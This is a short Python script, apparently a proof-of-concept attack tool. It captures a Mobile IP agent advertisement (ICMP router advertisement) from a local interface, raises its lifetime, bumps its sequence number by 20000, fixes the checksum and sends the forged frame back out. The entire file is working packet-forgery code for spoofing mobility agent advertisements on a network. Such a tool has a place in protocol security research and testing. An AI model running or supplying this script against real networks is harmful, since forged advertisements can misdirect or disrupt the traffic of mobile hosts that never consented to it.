#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""advert.py INTERFACE SECONDS: the next advertisement of the agent there once more, with a later sequence,
its ICMP lifetime so much longer."""
import socket
import struct
import sys

interface, more = sys.argv[1], int(sys.argv[2])
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind((interface, 3))
while True:
    frame = bytearray(wire.recv(2048))
    ip = frame[14:]
    if frame[12:14] == b"\x08\x00" and ip[9] == 1 and ip[20] == 9:
        break
icmp = frame[34:]
(lifetime,) = struct.unpack_from("!H", icmp, 6)
at = 8 + icmp[4] * icmp[5] * 4 + 2  # the agent extension comes first
(sequence,) = struct.unpack_from("!H", icmp, at)
struct.pack_into("!H", icmp, 6, lifetime + more)
struct.pack_into("!H", icmp, at, sequence + 20000)
struct.pack_into("!H", icmp, 2, 0)
total = sum(struct.unpack(f"!{len(icmp) // 2}H", icmp))
total = (total & 0xFFFF) + (total >> 16)
struct.pack_into("!H", icmp, 2, ~(total + (total >> 16)) & 0xFFFF)
wire.send(frame[:34] + icmp)
